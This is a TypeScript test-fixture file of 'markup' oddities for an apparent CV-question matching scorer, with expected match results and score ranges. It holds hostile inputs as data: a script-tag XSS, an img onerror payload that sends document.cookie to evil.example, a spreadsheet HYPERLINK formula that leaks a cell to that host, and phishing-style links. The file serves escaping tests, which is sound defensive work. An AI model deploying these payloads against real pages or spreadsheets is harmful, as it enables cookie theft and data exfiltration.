import type { Oddity } from "../oddity";

/** Text that turns into something else where a report, a terminal or a spreadsheet forgets to escape it. */
export const markup: readonly Oddity[] = [
  {
    text: "<script>alert('hired')</script> Do you know about web security?",
    match: "full",
    score: [70, 82],
    reasoning: ["Good match: secure coding and a security champion role are described."],
  },
  {
    text: '"><img src=x onerror="fetch(`//evil.example/${document.cookie}`)"> what about XSS',
    match: "full",
    score: [66, 80],
    reasoning: ["Good match: fixes for cross-site scripting after an external test are mentioned."],
  },
  {
    text: "<b>Bold</b> question & a simple one: 3 < 5 && 5 > 3, right? &lt;br&gt;",
    match: "none",
    score: [0, 8],
    reasoning: ["No match: the question has no relation to the CV."],
  },
  {
    text: `=HYPERLINK("https://evil.example/?q="&A1,"open my CV")`,
    match: "none",
    score: [0, 6],
    reasoning: ["No match: this looks like a spreadsheet formula and not like a question."],
  },
  {
    text: "[click here for your interview](https://evil.example/login) or https://evil.example/apply?ref=cv",
    match: "none",
    score: [0, 6],
    reasoning: ["No match: the text holds links but no question about the CV."],
  },
];
